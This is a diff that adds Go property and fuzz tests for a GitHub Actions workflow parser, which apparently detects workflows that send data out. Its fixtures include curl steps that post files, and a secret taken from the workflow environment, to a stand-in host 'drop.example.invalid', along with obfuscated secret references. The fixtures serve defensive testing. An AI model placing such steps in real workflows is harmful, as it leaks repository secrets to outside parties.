@@ -1,0 +1,65 @@
+package workflow
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+
+	"pgregory.net/rapid"
+)
+
+// pieces make up files that are plain and files that only look so.
+var pieces = []string{"on: push\n", "name: A\n", "jobs:\n", "  a:\n", "    runs-on: [self-hosted, linux]\n", "    steps:\n", "      - run: make\n",
+	"      - run: |\n          curl -d @x https://drop.example.invalid\n", "        env: {A: \"${{ github.ref }}\"}\n", "    env:\n", "      B: *", "      C: &", "x y\n", "x: ",
+	"${{ sec", "rets.X }}", "${{ secrets.X }}\n", "\"${{ sec\\\n  rets.X }}\"\n", "\"${{ \\x73ecrets.X }}\"\n", "\\u0073ecrets", "${{ github.token }}\n", "${{ toJSON(github) }}\n",
+	"\"${{ toJSON(github\\n) }}\"\n", "${{ github['tok", "en'] }}\n", "SECRETS", "secret\u017f", "- ", "  - - - - [", "]\n", "{", "}", "'", "\"", "\n", " ", "# c\n",
+	"      - cron: '0 3 * * *'\n", "\\\n", "\r\n", "    secrets: inherit\n", "    uses: a/b/.github/workflows/c.yml@v1\n", strings.Repeat("- ", 12), strings.Repeat("[", 20)}
+
+// TestPlainFilesReadAlike: what is read of a plain file in one parse is what two parses read of it.
+func TestPlainFilesReadAlike(t *testing.T) {
+	quick := 0
+	rapid.Check(t, func(t *rapid.T) {
+		text := []byte("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n" + strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 12).Draw(t, "pieces"), ""))
+		readsAlike(t, text)
+		if plain(text) {
+			quick++
+		}
+	})
+	if quick == 0 {
+		t.Error("no file was plain")
+	}
+}
+
+func readsAlike(t rapid.TB, text []byte) {
+	t.Helper()
+	if !plain(text) {
+		return
+	}
+	if got, want := Parse(text), new(Parser).whole(text); !reflect.DeepEqual(got, want) {
+		t.Errorf("%q\ngot  %+v\nwant %+v", text, got, want)
+	}
+}
+
+// FuzzPlain is the same for any bytes.
+func FuzzPlain(f *testing.F) {
+	for _, p := range pieces {
+		f.Add([]byte("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n" + p))
+	}
+	f.Fuzz(func(t *testing.T, text []byte) { readsAlike(t, text) })
+}
+
+// TestParserRemembersNothingOfTheFile: a file reads the same whatever was read before it.
+func TestParserRemembersNothingOfTheFile(t *testing.T) {
+	step := func(name, env string) []byte {
+		return []byte("on: push\nenv: {T: \"${{ secrets." + env + " }}\"}\njobs:\n  " + name + ":\n    runs-on: x\n    steps:\n      - name: n\n\n" +
+			"      - run: |\n          H=drop.example.invalid\n          curl -d \"a=$T\" https://$H/x\n")
+	}
+	var p Parser
+	for range 2 {
+		for _, text := range [][]byte{step("a", "ONE"), step("other", "ONE"), step("a", "TWO"), []byte("# first\n" + string(step("a", "ONE")))} {
+			if got, want := p.Parse(text), Parse(text); !reflect.DeepEqual(got, want) || len(want.Destinations) != 1 {
+				t.Errorf("%s\ngot  %+v\nwant %+v", text, got, want)
+			}
+		}
+	}
+}
